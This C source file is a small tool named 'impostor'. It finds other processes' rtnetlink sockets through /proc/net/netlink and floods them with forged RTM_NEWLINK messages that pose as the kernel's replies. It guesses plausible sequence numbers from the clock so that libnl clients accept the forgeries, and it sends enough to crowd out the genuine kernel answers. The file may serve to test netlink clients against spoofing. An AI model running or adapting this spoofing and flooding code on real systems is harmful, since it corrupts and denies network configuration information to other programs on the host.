// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * Answer others' requests of rtnetlink in the kernel's place, wrongly, and with so much that the
 * kernel's own answers find no room:
 *   impostor SECONDS    prints how many sockets were met, and how many answers they took
 */
#include <errno.h>
#include <linux/rtnetlink.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define SIZE 8192

static int fd;
static unsigned int own;
static long met, taken;
static time_t end;

static void answer(unsigned int port)
{
	static _Alignas(NLMSG_ALIGNTO) char bytes[SIZE];
	struct nlmsghdr *header = (struct nlmsghdr *)bytes;
	struct sockaddr_nl to = { .nl_family = AF_NETLINK, .nl_pid = port };

	met++;
	/* Smaller ones where there is no room for a large one. */
	for (int size = SIZE; size >= NLMSG_HDRLEN && time(NULL) < end; ) {
		/* libnl counts requests from the time that its socket was made. */
		*header = (struct nlmsghdr){
			.nlmsg_len = size, .nlmsg_type = RTM_NEWLINK, .nlmsg_seq = time(NULL), .nlmsg_pid = port,
		};
		if (sendto(fd, bytes, size, MSG_DONTWAIT, (struct sockaddr *)&to, sizeof(to)) == size)
			taken++;
		else
			size /= 2;
	}
}

static void look(void)
{
	static unsigned int last;
	FILE *sockets = fopen("/proc/net/netlink", "re");
	unsigned int protocol, port;
	char line[256];

	if (!sockets)
		exit(1);
	while (fgets(line, sizeof(line), sockets))
		if (sscanf(line, "%*s %u %u", &protocol, &port) == 2 && protocol == NETLINK_ROUTE && port &&
		    port != own && port != last)
			answer(last = port);
	fclose(sockets);
}

int main(int argc, char **argv)
{
	struct sockaddr_nl address = { .nl_family = AF_NETLINK };
	socklen_t size = sizeof(address);

	end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 1);
	fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
	if (fd < 0 || bind(fd, (struct sockaddr *)&address, size) ||
	    getsockname(fd, (struct sockaddr *)&address, &size))
		return 1;
	own = address.nl_pid;
	while (time(NULL) < end)
		look();
	printf("%ld met, %ld taken\n", met, taken);
	return 0;
}
